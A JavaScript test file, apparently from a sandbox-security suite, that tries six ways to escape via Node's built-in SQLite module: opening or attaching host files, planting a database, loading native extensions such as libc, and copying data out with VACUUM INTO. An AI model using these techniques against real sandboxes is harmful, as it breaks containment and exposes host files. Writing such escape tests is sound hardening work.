// exploit: loads native code and foreign files through Node's own database
// outcome: finished
// says: tried
const { DatabaseSync } = require('node:sqlite')
const tries = [
  () => new DatabaseSync('__HOST_FILE__'),
  () => new DatabaseSync(':memory:').exec("ATTACH '__HOST_FILE__' AS host; CREATE TABLE host.taken (a)"),
  () => new DatabaseSync('/node_modules/planted.db').exec('CREATE TABLE a (b)'),
  () => new DatabaseSync(':memory:', { allowExtension: true }).loadExtension('__HOST_FILE__'),
  () => new DatabaseSync(':memory:', { allowExtension: true }).loadExtension('/lib/x86_64-linux-gnu/libc.so.6'),
  () => new DatabaseSync(':memory:').exec(`PRAGMA temp_store_directory = '/'; VACUUM INTO '${require('node:path').dirname('__HOST_FILE__')}/copy'`),
]
for (const act of tries) {
  try {
    act()
    console.log('ESCAPED', act.toString())
  } catch (error) {
    if (!['ERR_SQLITE_ERROR', 'ERR_LOAD_SQLITE_EXTENSION', 'ERR_INVALID_STATE'].includes(error.code)) console.log('ESCAPED', error.code)
  }
}
console.log('tried')
